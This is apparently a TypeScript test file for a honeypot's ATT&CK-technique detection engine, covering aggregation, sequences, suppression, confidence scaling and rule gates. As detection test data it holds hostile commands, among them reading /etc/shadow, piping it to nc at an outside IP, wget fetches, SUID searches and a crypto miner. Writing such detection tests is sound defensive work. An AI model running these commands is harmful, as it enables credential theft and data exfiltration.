/**
 * Engine semantics (ttp.md §2.5, §4): single, aggregate (count, count_distinct, sum, the
 * window boundary), sequence (order, times, within, restart), suppression and escalation,
 * fallback emits, scaling, clip, floor, determinism, duplicates, golden tag ids, state
 * bounds and expiry, reload by state signature, warm-up.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildIndex, projectInput, TtpEngine, type CompiledRule, type Input, type RuleSetting, type Tag } from '../../src/ttp/index.js';
import { rule, ruleText } from './helpers.js';

const T0 = Date.UTC(2026, 4, 1, 12, 0, 0);
let seq = 0;
/** An input at T0 + `at` ms (distinct ids unless the content repeats). */
function input(kind: Input['kind'], at: number, fields: Record<string, unknown> = {}): Input {
  return projectInput({ kind, attacker_ip: '198.51.100.23', decky: 'decky-01', ts: T0 + at, ...(kind === 'email' && fields.source_id === undefined ? { source_id: `s${++seq}` } : {}), ...fields } as Record<string, unknown> & { kind: Input['kind'] });
}
const auth = (at: number, fields: Record<string, unknown> = {}): Input => input('auth_attempt', at, { username: 'root', password: `p${at}`, outcome: 'failure', ...fields });

function run(r: CompiledRule | CompiledRule[], inputs: readonly Input[], settings?: Map<string, RuleSetting>, clock?: { now(): number }): { tags: Tag[]; engine: TtpEngine } {
  const engine = new TtpEngine(buildIndex(Array.isArray(r) ? r : [r], settings), clock ? { clock } : {});
  const tags = inputs.flatMap((i) => engine.evaluate(i));
  return { tags, engine };
}

const countRule = (extra = '', emits?: string): Promise<CompiledRule> =>
  rule(ruleText({ id: 'T_COUNT', inputs: 'auth_attempt', detection: '  failed: {outcome: [failure, unknown]}\n  condition: failed', extra: `aggregate: {function: count, by: [attacker_ip], window: 10s, gte: 3}\n${extra}`, emits: emits ?? '  - {technique: T1110, tactic: TA0006, confidence: 0.8}' }));

describe('single-input rules and tags', () => {
  it('pins the golden tag id (R0014, T1003.008, no group)', async () => {
    const r = await rule(ruleText({ id: 'R0014', detection: "  target: {command_text|contains: /etc/shadow}\n  condition: target", emits: '  - {technique: T1003.008, tactic: TA0006, confidence: 0.95}' }), { source: 'builtin' });
    const golden = projectInput({ kind: 'command', attacker_ip: '198.51.100.23', decky: 'decky-01', service: 'ssh', ts: '2026-05-01T12:00:00.000000Z', command_text: 'cat /etc/shadow' });
    const [tag] = run(r, [golden]).tags;
    expect(tag).toMatchObject({
      id: '8657bbf0-ea92-5135-bee5-9f8913b25271',
      rule_id: 'R0014',
      rule_version: 1,
      rule_source: 'builtin',
      technique: 'T1003.008',
      technique_id: 'T1003',
      sub_technique_id: 'T1003.008',
      tactic_id: 'TA0006',
      confidence: 0.95,
      input_kind: 'command',
      input_id: 'command:ae968e9a7058b4a53b8a75243a1bd609',
      group_key: [],
      attacker_ip: '198.51.100.23',
      attacker_uuid: null,
      decky: 'decky-01',
      service: 'ssh',
      observed_at: '2026-05-01T12:00:00.000000Z',
      attack_version: '18.1',
    });
    expect(tag?.evidence.matched).toEqual(['target']);
  });

  it('pins the golden grouped tag id (R0001, T1110, group [198.51.100.23])', async () => {
    const r = await rule(ruleText({ id: 'R0001', inputs: 'auth_attempt', detection: '  failed: {outcome: [failure, unknown]}\n  condition: failed', extra: 'aggregate: {function: count, by: [attacker_ip], window: 5m, gte: 5}', emits: '  - {technique: T1110, tactic: TA0006, confidence: 0.85}' }), { source: 'builtin' });
    const base = { kind: 'auth_attempt' as const, attacker_ip: '198.51.100.23', decky: 'decky-01', service: 'ssh', username: 'root', outcome: 'failure' };
    const inputs = [0, 1, 2, 3].map((s) => projectInput({ ...base, ts: `2026-05-01T12:00:0${s}Z`, password: `x${s}` }));
    inputs.push(projectInput({ ...base, ts: '2026-05-01T12:00:04.000000Z', password: 'password' }));
    expect(inputs[4]?.id).toBe('auth_attempt:185325cb8fec15e58bc61b99e2f0e076');
    const { tags } = run(r, inputs);
    expect(tags).toHaveLength(1);
    expect(tags[0]?.id).toBe('4df8a6fa-87e9-5410-ac25-9d242fff41d3');
    expect(tags[0]?.group_key).toEqual(['198.51.100.23']);
    expect(tags[0]?.evidence.aggregate).toMatchObject({ function: 'count', value: 5, window_s: 300, first_ts: '2026-05-01T12:00:00.000000Z' });
    expect(tags[0]?.evidence.aggregate?.sample_input_ids).toHaveLength(5);
  });

  it('tags come out in rule order, then emit order', async () => {
    const a = await rule(ruleText({ id: 'T_B', detection: '  s: {command_text|contains: x}\n  condition: s', emits: '  - {technique: T1082, tactic: TA0007, confidence: 0.5}\n  - {technique: T1033, tactic: TA0007, confidence: 0.5}' }));
    const b = await rule(ruleText({ id: 'T_A', detection: '  s: {command_text|contains: x}\n  condition: s', emits: '  - {technique: T1016, tactic: TA0007, confidence: 0.5}' }));
    expect(run([a, b], [input('command', 0, { command_text: 'x' })]).tags.map((t) => `${t.rule_id}/${t.technique}`)).toEqual(['T_A/T1016', 'T_B/T1082', 'T_B/T1033']);
  });

  it('evidence: rule fields, kind defaults, cut to 512 characters, the whole under 4 KiB', async () => {
    const r = await rule(ruleText({ detection: '  s: {command_text|contains: x}\n  condition: s', extra: 'evidence_fields: [command_text]' }));
    const [tag] = run(r, [input('command', 0, { command_text: `x${'y'.repeat(5000)}`, user: 'root', pwd: '/tmp' })]).tags;
    expect(tag?.evidence.command_text).toHaveLength(513);
    expect(String(tag?.evidence.command_text).endsWith('…')).toBe(true);
    expect(tag?.evidence).toMatchObject({ user: 'root', pwd: '/tmp', matched: ['s'] });
    expect(Buffer.byteLength(JSON.stringify(tag?.evidence))).toBeLessThanOrEqual(4096);
  });
});

describe('aggregates', () => {
  it('count: fires at the threshold; the window is (t − window, t]', async () => {
    const r = await countRule('suppress: false');
    expect(run(r, [auth(0), auth(1000), auth(9999)]).tags).toHaveLength(1);
    expect(run(r, [auth(0), auth(1000), auth(10_000)]).tags).toHaveLength(0);
    expect(run(r, [auth(0), auth(1000), auth(2000), auth(3000)]).tags).toHaveLength(2);
  });

  it('count: out-of-order inputs inside the window count; successes do not', async () => {
    const r = await countRule();
    expect(run(r, [auth(5000), auth(1000), auth(6000)]).tags).toHaveLength(1);
    expect(run(r, [auth(0), auth(1, { outcome: 'success' }), auth(2, { outcome: 'success' })]).tags).toHaveLength(0);
  });

  it('an input with a null group field is not aggregated', async () => {
    const r = await countRule();
    expect(run(r, [0, 1, 2].map((at) => auth(at, { attacker_ip: null }))).tags).toHaveLength(0);
  });

  it('count_distinct counts values once', async () => {
    const r = await rule(ruleText({ inputs: 'auth_attempt', detection: '  a: {outcome: failure}\n  condition: a', extra: 'aggregate: {function: count_distinct, field: password_sha256, by: [attacker_ip], window: 1m, gte: 3}' }));
    expect(run(r, [auth(0, { password: 'a' }), auth(1, { password: 'a' }), auth(2, { password: 'b' }), auth(3, { password: 'b' })]).tags).toHaveLength(0);
    expect(run(r, [auth(0, { password: 'a' }), auth(1, { password: 'b' }), auth(2, { password: 'c' })]).tags).toHaveLength(1);
  });

  it('sum adds a numeric field (non-numbers add 0)', async () => {
    const r = await rule(ruleText({ inputs: 'email', detection: '  m: {body_simhash|exists: true}\n  condition: m', extra: 'aggregate: {function: sum, field: rcpt_count, by: [body_simhash], window: 1h, gte: 10}', emits: '  - {technique: T1566, tactic: TA0001, confidence: 0.7}' }));
    const mail = (at: number, n: unknown): Input => input('email', at, { body_simhash: 'abc', rcpt_count: n });
    expect(run(r, [mail(0, 4), mail(1, 'x'), mail(2, 5)]).tags).toHaveLength(0);
    const { tags } = run(r, [mail(0, 4), mail(1, 6)]);
    expect(tags).toHaveLength(1);
    expect(tags[0]?.group_key).toEqual(['abc']);
    expect(tags[0]?.evidence.aggregate?.value).toBe(10);
  });

  it('scales confidence with aggregate.value and escalates through suppression once per step', async () => {
    const r = await countRule('suppress: {window: 1h}', '  - technique: T1110\n    tactic: TA0006\n    confidence: 0.8\n    confidence_scale: {by: aggregate.value, steps: [{gte: 5, confidence: 0.9}, {gte: 8, confidence: 0.95}]}');
    const { tags, engine } = run(r, Array.from({ length: 9 }, (_, k) => auth(k * 100)));
    expect(tags.map((t) => t.confidence)).toEqual([0.8, 0.9, 0.95]);
    expect(engine.stats().suppressed).toBe(4);
  });

  it('is suppressed for its own window by default, and again after it', async () => {
    const r = await countRule();
    expect(run(r, [0, 1, 2, 3, 4].map((k) => auth(k))).tags).toHaveLength(1);
    expect(run(r, [0, 1, 2, 20_000, 20_001, 20_002].map((k) => auth(k))).tags).toHaveLength(2);
  });

  it('aggregate.* selections gate emits in `when`', async () => {
    const r = await rule(
      ruleText({
        inputs: 'auth_attempt',
        detection: '  failed: {outcome: failure}\n  many: {aggregate.value|gte: 4}\n  condition: failed',
        extra: 'aggregate: {function: count, by: [attacker_ip], window: 1m, gte: 3}\nsuppress: false',
        emits: '  - {technique: T1110.001, tactic: TA0006, confidence: 0.9, when: many}\n  - {technique: T1110, tactic: TA0006, confidence: 0.6}',
      }),
    );
    expect(run(r, [auth(0), auth(1), auth(2), auth(3)]).tags.map((t) => t.technique)).toEqual(['T1110', 'T1110.001', 'T1110']);
  });
});

describe('sequences', () => {
  const seqRule = (within = '1h', times = 3): Promise<CompiledRule> =>
    rule(ruleText({ inputs: 'auth_attempt', detection: '  failed: {outcome: failure}\n  ok: {outcome: success}', extra: `sequence:\n  by: [attacker_ip, username]\n  within: ${within}\n  steps: [{condition: failed, times: ${times}}, {condition: ok}]`, emits: '  - {technique: T1078, tactic: TA0001, confidence: 0.7}' }));
  const ok = (at: number, f: Record<string, unknown> = {}): Input => auth(at, { outcome: 'success', ...f });

  it('fires on the last step, in order, counting `times`', async () => {
    const r = await seqRule();
    expect(run(r, [auth(0), auth(1), auth(2), ok(3)]).tags).toHaveLength(1);
    expect(run(r, [auth(0), auth(1), ok(2)]).tags).toHaveLength(0);
    expect(run(r, [ok(0), auth(1), auth(2), auth(3)]).tags).toHaveLength(0);
  });

  it('ignores other inputs (ordered, not consecutive) and groups by its key', async () => {
    const r = await seqRule();
    expect(run(r, [auth(0), ok(1, { username: 'admin' }), auth(2), auth(3), auth(4), ok(5)]).tags).toHaveLength(1);
    expect(run(r, [auth(0), auth(1), auth(2), ok(3, { username: 'admin' })]).tags).toHaveLength(0);
  });

  it('restarts a group older than `within`, trying the input against step 1', async () => {
    const r = await seqRule('10s', 2);
    expect(run(r, [auth(0), auth(1000), ok(11_000)]).tags).toHaveLength(0);
    expect(run(r, [auth(0), auth(12_000), auth(13_000), ok(14_000)]).tags).toHaveLength(1);
  });

  it('completing resets the group; the evidence lists each step', async () => {
    const r = await seqRule('1h', 1);
    const { tags } = run(r, [auth(0), ok(1), ok(2), auth(3), ok(3_700_000)]);
    expect(tags).toHaveLength(1);
    expect(tags[0]?.evidence.sequence?.steps.map((s) => s.step)).toEqual([1, 2]);
    expect(tags[0]?.group_key).toEqual(['198.51.100.23', 'root']);
  });
});

describe('emits, confidence and operational state', () => {
  const two = async (): Promise<CompiledRule> =>
    rule(ruleText({ detection: '  s: {command_text|contains: x}\n  key: {command_text|contains: key}\n  condition: s', emits: '  - {technique: T1552.004, tactic: TA0006, confidence: 0.9, when: key}\n  - {technique: T1552.004, tactic: TA0006, confidence: 0.5}' }));

  it('ordered fallback: the first emit whose `when` holds is taken', async () => {
    const r = await two();
    expect(run(r, [input('command', 0, { command_text: 'x key' })]).tags.map((t) => t.confidence)).toEqual([0.9]);
    expect(run(r, [input('command', 0, { command_text: 'x' })]).tags.map((t) => t.confidence)).toEqual([0.5]);
  });

  it('ratio scaling; below the floor is dropped and counted', async () => {
    const r = await rule(ruleText({ inputs: 'intel', detection: '  s: {feodo_listed: true}\n  condition: s', emits: '  - {technique: T1071, tactic: TA0011, confidence: 0.8, confidence_scale: {by: abuseipdb_score, ratio: 100}}' }));
    const intel = (score: unknown): Input => input('intel', 0, { feodo_listed: true, abuseipdb_score: score });
    expect(run(r, [intel(50)]).tags[0]?.confidence).toBe(0.4);
    const { tags, engine } = run(r, [intel(20)]);
    expect(tags).toEqual([]);
    expect(engine.stats().below_floor).toBe(1);
    expect(run(r, [intel(null)]).tags).toEqual([]);
  });

  it('clip caps downward only, until it expires', async () => {
    const r = await two();
    const clip = new Map<string, RuleSetting>([['T_RULE', { state: 'clipped', confidence_max: 0.6, expires_at: T0 + 10_000 }]]);
    const now = { t: T0, now(): number { return this.t; } };
    const { engine } = run(r, [], clip, now);
    expect(engine.evaluate(input('command', 0, { command_text: 'x key' }))[0]?.confidence).toBe(0.6);
    expect(engine.evaluate(input('command', 1, { command_text: 'x' }))[0]?.confidence).toBe(0.5);
    now.t = T0 + 20_000;
    expect(engine.evaluate(input('command', 2, { command_text: 'x key' }))[0]?.confidence).toBe(0.9);
  });

  it('disabled rules are skipped; disabled until a time, until the clock passes it', async () => {
    const r = await two();
    const x = (at: number): Input => input('command', at, { command_text: 'x' });
    expect(run(r, [x(0)], new Map([['T_RULE', { state: 'disabled' }]])).tags).toEqual([]);
    expect(buildIndex([r], new Map([['T_RULE', { state: 'disabled' }]])).rules).toHaveLength(0);
    const now = { t: T0, now(): number { return this.t; } };
    const { engine } = run(r, [], new Map([['T_RULE', { state: 'disabled', expires_at: T0 + 1000 }]]), now);
    expect(engine.evaluate(x(0))).toEqual([]);
    now.t = T0 + 2000;
    expect(engine.evaluate(x(1))).toHaveLength(1);
  });

  it('deprecated rules are never indexed', async () => {
    const r = await rule(ruleText({ status: 'deprecated', detection: '  s: {command_text|contains: x}\n  condition: s', emits: '  - {technique: T1059, tactic: TA0002, confidence: 0.0}' }));
    expect(buildIndex([r]).rules).toHaveLength(0);
  });
});

describe('determinism, duplicates and state', () => {
  it('the same index and inputs give the same tags (property)', async () => {
    const r = await countRule('', '  - technique: T1110\n    tactic: TA0006\n    confidence: 0.8\n    confidence_scale: {by: aggregate.value, steps: [{gte: 6, confidence: 0.9}]}');
    await fc.assert(
      fc.asyncProperty(fc.array(fc.record({ at: fc.integer({ min: 0, max: 60_000 }), ip: fc.constantFrom('10.0.0.1', '10.0.0.2'), outcome: fc.constantFrom('failure', 'success') }), { maxLength: 40 }), async (rows) => {
        const inputs = rows.map((x, k) => auth(x.at, { attacker_ip: x.ip, outcome: x.outcome, password: `k${k}` }));
        const a = run(r, inputs).tags;
        const b = run(r, inputs).tags;
        return JSON.stringify(a) === JSON.stringify(b);
      }),
      { numRuns: 50 },
    );
  });

  it('never evaluates an id twice', async () => {
    const r = await countRule();
    const one = auth(0);
    const { engine } = run(r, [one, one, one]);
    expect(engine.stats()).toMatchObject({ inputs: 3, duplicates: 2 });
    expect(engine.stats().state_groups).toBe(1);
  });

  it('bounds groups (LRU, evictions counted) and sweeps expired ones', async () => {
    const r = await countRule();
    const engine = new TtpEngine(buildIndex([r]), { maxGroups: 3, sweepEvery: 5 });
    for (let k = 0; k < 5; k++) engine.evaluate(auth(k, { attacker_ip: `10.0.0.${k}` }));
    expect(engine.stats().state_groups).toBeLessThanOrEqual(3);
    expect(engine.stats().state_evicted).toBeGreaterThanOrEqual(2);
    for (let k = 0; k < 5; k++) engine.evaluate(auth(3_600_000 + k, { attacker_ip: '10.9.9.9' }));
    expect(engine.stats().state_groups).toBe(1);
  });

  it('a reload keeps state when the state signature is unchanged, and starts fresh otherwise', async () => {
    const a = await countRule();
    const sameState = await countRule('', '  - {technique: T1110, tactic: TA0006, confidence: 0.9}');
    const engine = new TtpEngine(buildIndex([a]));
    engine.evaluate(auth(0));
    engine.evaluate(auth(1));
    engine.swap(buildIndex([sameState]));
    expect(engine.evaluate(auth(2)).map((t) => t.confidence)).toEqual([0.9]);

    const changed = await rule(ruleText({ id: 'T_COUNT', inputs: 'auth_attempt', detection: '  failed: {outcome: failure}\n  condition: failed', extra: 'aggregate: {function: count, by: [attacker_ip], window: 10s, gte: 3}', emits: '  - {technique: T1110, tactic: TA0006, confidence: 0.8}' }));
    const e2 = new TtpEngine(buildIndex([a]));
    e2.evaluate(auth(0));
    e2.evaluate(auth(1));
    e2.swap(buildIndex([changed]));
    expect(e2.evaluate(auth(2))).toEqual([]);
  });

  it('suppression records survive a reload that keeps the technique and suppress', async () => {
    const a = await rule(ruleText({ detection: '  s: {command_text|contains: x}\n  condition: s', extra: 'suppress: {window: 1h}' }));
    const b = await rule(ruleText({ detection: '  s: {command_text|contains: x}\n  t: {command_text|contains: y}\n  condition: s or t', extra: 'suppress: {window: 1h}' }));
    const engine = new TtpEngine(buildIndex([a]));
    expect(engine.evaluate(input('command', 0, { command_text: 'x1' }))).toHaveLength(1);
    engine.swap(buildIndex([b]));
    expect(engine.evaluate(input('command', 1, { command_text: 'x2' }))).toHaveLength(0);
  });

  it('a swap takes effect at the next evaluate', async () => {
    const a = await rule(ruleText({ id: 'T_X', detection: '  s: {command_text|contains: x}\n  condition: s' }));
    const engine = new TtpEngine(buildIndex([a]));
    expect(engine.evaluate(input('command', 0, { command_text: 'x' }))).toHaveLength(1);
    engine.swap(buildIndex([]));
    expect(engine.evaluate(input('command', 1, { command_text: 'x' }))).toHaveLength(0);
    expect(engine.stats().rules_active).toBe(0);
  });

  it('warm updates state like evaluate and returns nothing', async () => {
    const r = await countRule();
    const engine = new TtpEngine(buildIndex([r]));
    engine.warm(auth(0));
    engine.warm(auth(1));
    expect(engine.evaluate(auth(2))).toHaveLength(1);
    const e2 = new TtpEngine(buildIndex([r]));
    for (const k of [0, 1, 2]) e2.warm(auth(k));
    expect(e2.evaluate(auth(3))).toHaveLength(0); // suppressed: the warm fire was already written
  });
});

describe('rule gates', () => {
  it('gate rules out only inputs their condition could not accept (the pack, its tests and a command bank)', async () => {
    const { loadRuleDir } = await import('../../src/ttp/index.js');
    const { rules } = await loadRuleDir({ runTests: false });
    const inputs = rules.flatMap((r) => r.def.tests.flatMap((t) => t.inputs));
    const bank = ['ls', 'cd /tmp; find / -perm -4000', 'sudo su', 'nc -z 10.0.0.1 22', 'echo $(whoami)', 'busybox wget x/y', 'cat /etc/shadow | nc 1.2.3.4 80', 'sh -c "id; uname"', 'kubectl get secrets', 'xmrig --donate-level 1'];
    bank.forEach((c, k) => inputs.push(input('command', k, { command_text: c })));
    const gated = new TtpEngine(buildIndex(rules));
    const plain = new TtpEngine(buildIndex(rules), { gates: false });
    const a = inputs.flatMap((i) => gated.evaluate(i).map((t) => t.id));
    const b = inputs.flatMap((i) => plain.evaluate(i).map((t) => t.id));
    expect(a.length).toBeGreaterThan(100);
    expect(a).toEqual(b);
  });

  it('a selection scoped to another kind never holds for this one', async () => {
    const { ruleGate } = await import('../../src/ttp/engine/gates.js');
    const r = await rule(ruleText({ inputs: 'http_request, command', detection: '  web: {kind: http_request, path|contains: x}\n  shell: {kind: command, programs: [cat]}\n  condition: web or shell' }));
    expect(ruleGate(r, 'command')).toEqual({ sets: [{ field: 'programs', values: new Set(['cat']) }], texts: [] });
    expect(ruleGate(r, 'http_request')).toBeNull();
  });
});
